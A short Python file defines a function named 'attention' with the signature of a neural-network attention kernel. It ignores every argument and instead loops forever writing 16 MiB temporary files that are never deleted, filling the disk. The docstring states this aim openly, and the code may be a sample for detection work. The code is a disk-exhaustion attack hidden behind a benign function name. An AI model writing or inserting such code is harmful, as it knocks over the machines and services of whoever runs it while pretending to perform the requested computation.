"""Writes files without end, wherever it can."""

import tempfile

BLOCK = b"x" * (1 << 22)


def attention(q, k, v, out, *, scale):
    while True:
        with tempfile.NamedTemporaryFile(delete=False) as file:
            for _ in range(4):
                file.write(BLOCK)
